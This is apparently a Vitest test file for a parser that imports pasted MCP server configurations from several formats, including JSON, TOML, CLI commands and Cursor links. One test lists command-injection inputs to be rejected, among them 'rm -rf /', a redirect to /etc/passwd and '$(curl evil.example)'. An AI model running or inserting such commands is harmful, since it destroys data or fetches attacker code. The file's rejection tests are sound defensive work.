import { expect, test } from 'vitest'
import type { PasteEntry } from './contract.ts'
import { parsePaste } from './parse-paste.ts'

type Usable = Exclude<PasteEntry, { status: 'invalid' }>

function read(text: string) {
  const { form, entries, error } = parsePaste(text)
  expect(error).toBeUndefined()
  const usable = entries.map((entry) => {
    if (entry.status === 'invalid') throw new Error(`${entry.name}: ${entry.message}`)
    return entry
  })
  return { form, entries: usable, first: usable[0] as Usable }
}

const fenced = (text: string, language = '') => `Add this:\n\n\`\`\`${language}\n${text}\n\`\`\`\n`

test('mcpServers, as Claude Desktop and Cursor write it, is read whole', () => {
  const { form, entries } = read(
    JSON.stringify({
      mcpServers: {
        github: {
          command: 'npx',
          args: ['-y', '@modelcontextprotocol/server-github'],
          env: { GITHUB_PERSONAL_ACCESS_TOKEN: 'ghp_0123456789abcdef', PORT: 8080 },
          autoApprove: ['*'],
        },
        remote: { type: 'streamable-http', url: 'https://mcp.example/mcp', headers: { A: 'b' } },
        old: { url: 'https://mcp.example/sse' },
        windsurf: { serverUrl: 'https://mcp.example/mcp', disabled: true },
      },
    }),
  )
  expect(form).toBe('mcpServers')
  expect(entries.map(({ name, config }) => [name, config.transport])).toEqual([
    ['github', undefined],
    ['remote', 'http'],
    ['old', 'sse'],
    ['windsurf', undefined],
  ])
  const [github, , , windsurf] = entries
  expect(github?.config).toEqual({
    name: 'github',
    command: 'npx',
    args: ['-y', '@modelcontextprotocol/server-github'],
    env: { GITHUB_PERSONAL_ACCESS_TOKEN: 'ghp_0123456789abcdef', PORT: '8080' },
  })
  expect(github?.secrets).toEqual([{ path: 'env.GITHUB_PERSONAL_ACCESS_TOKEN', kind: 'given' }])
  expect(github?.warnings).toEqual(['the field "autoApprove" is not taken over'])
  expect(windsurf?.config).toMatchObject({ disabled: true, url: 'https://mcp.example/mcp' })
})

test('comments, trailing commas, a fence and missing braces do not matter', () => {
  const text = `{
    // the one we use
    "mcpServers": {
      "files": { "command": "npx", "args": ["-y", "a//b", /* no */ "x,}",], },
    },
  }`
  for (const pasted of [text, fenced(text, 'jsonc'), `\uFEFF${text.replaceAll('\n', '\r\n')}`]) {
    const { first } = read(pasted)
    expect(first.config).toMatchObject({ name: 'files', args: ['-y', 'a//b', 'x,}'] })
  }
  const { form, first } = read('"files": { "command": "npx", "args": ["-y", "x"] },')
  expect([form, first.name]).toEqual(['mcpServers', 'files'])
  expect(read('{"files": {"command": "npx"}}').first.name).toBe('files')
  expect(read('{"command": "npx", "args": ["-y", "mcp-server-time"]}').first.name).toBe('time')
})

test('our own list is read with all its fields', () => {
  const { form, first } = read(
    JSON.stringify({
      servers: [
        {
          ...{ name: '订单', command: 'node', args: ['mall.js'], env: { A: 'b' }, timeout: 5 },
          ...{ description: 'Orders', trigger_keywords: ['订单'], disabled: true, maxRetries: 1 },
          ...{ approval: 'allow', pinning: 'follow', allowedTools: ['get*'] },
        },
      ],
    }),
  )
  expect(form).toBe('servers')
  expect(first).toMatchObject({
    name: '订单',
    config: { timeout: 5, trigger_keywords: ['订单'], disabled: true, allowedTools: ['get*'] },
  })
  expect(first.warnings).toEqual([
    'it lets its tools run without approval',
    'it takes over changed tools without approval',
  ])
})

test('VS Code: what its inputs ask for is still needed', () => {
  const { form, entries } = read(`{
    "inputs": [{ "type": "promptString", "id": "key", "description": "Key", "password": true }],
    "servers": {
      "perplexity": {
        "type": "stdio", "command": "npx", "args": ["-y", "server-perplexity-ask", "\${workspaceFolder}"],
        "env": { "PERPLEXITY_API_KEY": "\${input:key}" }
      },
      "github": {
        "type": "http", "url": "https://api.githubcopilot.com/mcp/",
        "headers": { "Authorization": "Bearer \${input:key}" }
      }
    }
  }`)
  expect(form).toBe('vscode')
  expect(entries.map(({ secrets }) => secrets)).toEqual([
    [
      { path: 'env.PERPLEXITY_API_KEY', kind: 'needed' },
      { path: 'args[2]', kind: 'needed' },
    ],
    [{ path: 'headers.Authorization', kind: 'needed' }],
  ])
  expect(read('{"mcp":{"servers":{"a":{"command":"x"}}}}').form).toBe('vscode')
})

test('Codex: tables of config.toml, with what it takes from the environment', () => {
  const { form, entries } = read(`
model = "gpt"
[mcp_servers.docs]
command = "npx"
args = ["-y", "mcp-docs"]
env = { LOG = "1" }
env_vars = ["DOCS_TOKEN"]
startup_timeout_sec = 20
tool_timeout_sec = 45
enabled = false

[mcp_servers."linear"]
url = "https://mcp.linear.app/mcp"
bearer_token_env_var = "LINEAR_TOKEN"
http_headers = { "X-Team" = "ops" }
[mcp_servers.linear.env_http_headers]
X-Key = "LINEAR_KEY"
`)
  expect(form).toBe('codex_toml')
  const [docs, linear] = entries
  expect(docs?.config).toEqual({
    ...{ name: 'docs', command: 'npx', args: ['-y', 'mcp-docs'], timeout: 45, disabled: true },
    env: { DOCS_TOKEN: `\${DOCS_TOKEN}`, LOG: '1' },
  })
  expect(docs?.secrets).toEqual([{ path: 'env.DOCS_TOKEN', kind: 'needed' }])
  const headers = { 'X-Team': 'ops', 'X-Key': `\${LINEAR_KEY}` }
  expect(linear?.config).toHaveProperty('headers', {
    ...{ ...headers, Authorization: `Bearer \${LINEAR_TOKEN}` },
  })
})

test.each([
  [
    'claude mcp add --transport http sentry https://mcp.sentry.dev/mcp',
    { name: 'sentry', transport: 'http', url: 'https://mcp.sentry.dev/mcp' },
  ],
  [
    'claude mcp add -t sse asana https://mcp.asana.com/sse -s user',
    { name: 'asana', transport: 'sse', url: 'https://mcp.asana.com/sse' },
  ],
  [
    `claude mcp add --transport http stripe https://mcp.stripe.com \\\n  --header "Authorization: Bearer abc" -H 'X-A: b c'`,
    { name: 'stripe', headers: { Authorization: 'Bearer abc', 'X-A': 'b c' } },
  ],
  [
    '$ claude mcp add airtable --env AIRTABLE_API_KEY=YOUR_KEY B=2 -- npx -y airtable-mcp-server --flag',
    {
      ...{ name: 'airtable', command: 'npx', args: ['-y', 'airtable-mcp-server', '--flag'] },
      env: { AIRTABLE_API_KEY: 'YOUR_KEY', B: '2' },
    },
  ],
  [
    'claude mcp add --scope=project sequential npx -y @modelcontextprotocol/server-sequential-thinking',
    { name: 'sequential', command: 'npx' },
  ],
  [
    `claude mcp add-json weather '{"type":"stdio","command":"/path/to/weather",\n"args":["--api-key","abc"],"env":{"A":"b"}}'`,
    { name: 'weather', transport: 'stdio', command: '/path/to/weather', env: { A: 'b' } },
  ],
  [
    'codex mcp add linear --url https://mcp.linear.app/mcp --bearer-token-env-var LINEAR_TOKEN',
    { name: 'linear', headers: { Authorization: `Bearer \${LINEAR_TOKEN}` } },
  ],
])('%s', (line, config) => {
  const { form, first } = read(line)
  expect(form).toBe('claude_mcp_add')
  expect(first.config).toMatchObject(config)
})

test.each([
  ['npx -y @modelcontextprotocol/server-filesystem "/my files" \'b c\'', 'filesystem'],
  ['A=1 B="two words" npx -y @acme/mcp-server-orders@1.2.3', 'orders'],
  ['uvx --from git+https://github.com/acme/tool.git tool-mcp', 'tool'],
  ['uvx mcp-server-git --repository .', 'git'],
  ['docker run -i --rm -e LOG=info -v /a:/b ghcr.io/github/github-mcp-server:v1', 'github'],
  ['node /srv/mall/dist/index.js --stdio', 'mall'],
  ['python -m weather_server', 'weather_server'],
  ['cmd /c npx -y x-mcp', 'x'],
  ['/usr/local/bin/my-tool serve', 'my-tool'],
  ['C:\\tools\\mall.exe --x', 'mall'],
])('the line %s starts a server named %s', (line, name) => {
  const { form, first } = read(line)
  expect([form, first.name]).toEqual(['command_line', name])
})

test('quotes and escapes are taken away, nothing is expanded', () => {
  const { first } = read(`KEY='a b' npx -y x "c \\"d\\" $HOME" e\\ f '$(g)' *`)
  expect(first.config).toMatchObject({
    command: 'npx',
    args: ['-y', 'x', 'c "d" $HOME', 'e f', '$(g)', '*'],
    env: { KEY: 'a b' },
  })
})

test.each([
  'npx -y x; rm -rf /',
  'npx -y x | tee log',
  'npx -y x && touch y',
  'npx -y x > /etc/passwd',
  'npx -y $(curl evil.example)',
  'npx -y "`curl evil.example`"',
  'npx -y "$(curl evil.example)"',
  'npx -y x &',
  "npx -y 'x",
  'claude mcp add a -- npx -y x; touch y',
])('%s is shown as what cannot be added', (line) => {
  const { entries } = parsePaste(line)
  expect(entries).toMatchObject([
    { status: 'invalid', message: expect.stringContaining('the line has') },
  ])
})

test('several lines are several servers', () => {
  const { entries } = read('# ours\nnpx -y a-mcp\n\nuvx b-mcp\n')
  expect(entries.map(({ name }) => name)).toEqual(['a', 'b'])
})

test('what is installed before is left out, what is exported counts', () => {
  const { entries } = read('cd app\nnpm install -g x\nexport KEY=abc B=2\nB=3 npx -y x-mcp\n')
  expect(entries.map(({ name, config }) => [name, 'env' in config && config.env])).toEqual([
    ['x', { KEY: 'abc', B: '3' }],
  ])
  expect(parsePaste('npm install -g x').entries).toEqual([])
})

test('a secret of docker run moves to where secrets are kept', () => {
  const { first } = read('docker run -i --rm -e GITHUB_TOKEN=ghp_0123456789abcdef -e LOG=info img')
  expect(first.config).toMatchObject({
    args: ['run', '-i', '--rm', '-e', 'GITHUB_TOKEN', '-e', 'LOG=info', 'img'],
    env: { GITHUB_TOKEN: 'ghp_0123456789abcdef' },
  })
  expect(first.secrets).toEqual([{ path: 'env.GITHUB_TOKEN', kind: 'given' }])
})

test.each([
  ['https://mcp.sentry.dev/mcp', 'sentry', undefined],
  ['http://localhost:3000/sse', 'localhost', 'sse'],
  ['https://api.githubcopilot.com/mcp/', 'githubcopilot', undefined],
])('the address %s is a server named %s', (url, name, transport) => {
  const { form, first } = read(` ${url}\n`)
  expect(form).toBe('url')
  expect(first.config).toEqual({ name, url, ...(transport && { transport }) })
})

test('a registry document offers each way to run or reach its server', () => {
  const { form, entries } = read(
    JSON.stringify({
      $schema: 'https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json',
      name: 'io.github.acme/brave-search',
      description: 'Search',
      version: '1.0.2',
      packages: [
        {
          ...{ registryType: 'npm', identifier: '@acme/server-brave', version: '1.0.2' },
          transport: { type: 'stdio' },
          packageArguments: [
            { type: 'positional', valueHint: 'target_dir', isRequired: true },
            { type: 'named', name: '--mode', default: 'local' },
            { type: 'named', name: '--port', format: 'number' },
          ],
          environmentVariables: [
            { name: 'BRAVE_API_KEY', isRequired: true, isSecret: true },
            { name: 'LOG_LEVEL', default: 'info' },
          ],
        },
        { registryType: 'pypi', identifier: 'brave', version: '0.5.0', runtimeHint: 'uvx' },
        {
          ...{ registry_type: 'oci', identifier: 'acme/brave', version: '3' },
          runtime_arguments: [
            {
              ...{ type: 'named', name: '--mount', value: 'type=bind,src={src},dst={dst}' },
              variables: { src: { is_required: true }, dst: { default: '/project' } },
            },
          ],
          environment_variables: [{ name: 'K', is_secret: true }],
        },
      ],
      remotes: [
        {
          ...{ type: 'streamable-http', url: 'https://{region}.brave.example/mcp' },
          variables: { region: { default: 'eu' } },
          headers: [{ name: 'X-API-Key', isRequired: true, isSecret: true }],
        },
      ],
    }),
  )
  expect(form).toBe('registry_server_json')
  expect(entries.map(({ name }) => name)).toEqual([
    ...['brave-search-http', 'brave-search-npm', 'brave-search-pypi', 'brave-search-docker'],
  ])
  const [http, npm, pypi, docker] = entries
  expect(http?.config).toMatchObject({ url: 'https://eu.brave.example/mcp', transport: 'http' })
  expect(http?.secrets).toEqual([{ path: 'headers["X-API-Key"]', kind: 'needed' }])
  expect(npm?.config).toMatchObject({
    ...{ command: 'npx', description: 'Search' },
    args: ['-y', '@acme/server-brave@1.0.2', '<target_dir>', '--mode', 'local'],
    env: { BRAVE_API_KEY: '<BRAVE_API_KEY>', LOG_LEVEL: 'info' },
  })
  expect(npm?.secrets).toEqual([
    { path: 'env.BRAVE_API_KEY', kind: 'needed' },
    { path: 'args[2]', kind: 'needed' },
  ])
  expect(pypi?.config).toMatchObject({ command: 'uvx', args: ['brave@0.5.0'] })
  expect(docker?.config).toHaveProperty('args', [
    ...['run', '-i', '--rm', '-e', 'K', '--mount', 'type=bind,src=<src>,dst=/project'],
    'acme/brave:3',
  ])
})

test('a package that cannot be started from here is invalid, the others stay', () => {
  const packages = [
    { registryType: 'mcpb', identifier: 'https://x.example/a.mcpb' },
    { registryType: 'npm', identifier: 'a', transport: { type: 'sse', url: 'http://x' } },
    { registryType: 'npm', identifier: 'b' },
  ]
  const { entries } = parsePaste(JSON.stringify({ name: 'x/y', packages }))
  expect(entries.map(({ status }) => status)).toEqual(['invalid', 'invalid', 'new'])
})

test('a link for Cursor is read, in each way that people make them', () => {
  const link = (config: unknown, encoding: 'base64' | 'base64url' = 'base64') =>
    `cursor://anysphere.cursor-deeplink/mcp/install?name=pg&config=${Buffer.from(
      JSON.stringify(config),
    ).toString(encoding)}`
  const config = { command: 'npx', args: ['-y', 'server-postgres', 'postgresql://localhost/ÿ>>?'] }
  const links = [
    link(config),
    link(config, 'base64url'),
    link({ pg: config }),
    link({ mcpServers: { pg: config } }),
    link(config).replace(
      'cursor://anysphere.cursor-deeplink/mcp/install',
      'https://cursor.com/en/install-mcp',
    ),
    `cursor://anysphere.cursor-deeplink/mcp/install?name=pg&config=${encodeURIComponent(JSON.stringify(config))}`,
  ]
  for (const text of links) {
    const { form, first } = read(text)
    expect([form, first.name]).toEqual(['cursor_deeplink', 'pg'])
    expect(first.config).toMatchObject(config)
  }
  const whole = read(link({ command: 'npx -y "a b"' })).first
  expect(whole.config).toMatchObject({ command: 'npx', args: ['-y', 'a b'] })
  expect(parsePaste(link('no')).entries).toMatchObject([{ status: 'invalid' }])
})

test('a name that is taken comes with a free one', () => {
  const text = JSON.stringify({ servers: [1, 2, 3].map(() => ({ name: 'a', command: 'x' })) })
  const { entries } = parsePaste(text, { taken: new Set(['a', 'a-2']) })
  expect(entries).toMatchObject([
    { status: 'duplicate', name: 'a', proposed_name: 'a-3' },
    { status: 'duplicate', name: 'a', proposed_name: 'a-4' },
    { status: 'duplicate', name: 'a', proposed_name: 'a-5' },
  ])
})

test('an entry that does not fit says why by its field, and the others stay', () => {
  const { entries } = parsePaste(
    JSON.stringify({
      mcpServers: {
        a: { command: 'x' },
        b: { type: 'grpc', url: 'https://x' },
        c: { url: 'https://user:hunter2@x.example' },
        d: 7,
        'e/f': { command: 'x' },
      },
    }),
  )
  expect(entries.map(({ name, status }) => `${name} ${status}`)).toEqual([
    ...['a new', 'b invalid', 'c invalid', 'd invalid', 'e-f new'],
  ])
  expect(entries[1]).toMatchObject({ errors: [{ path: 'transport', got: '"grpc"' }] })
  expect(JSON.stringify(entries[2])).not.toContain('hunter2')
})

test.each(['', '   ', 'hello world', 'null', '{}', '[]', '{"a": 1}', '[mcp_servers', 'cursor:'])(
  '%j is nothing that can be read, and says so',
  (text) => {
    const { entries, error } = parsePaste(text)
    expect(entries).toEqual([])
    expect(error).toEqual(expect.any(String))
  },
)
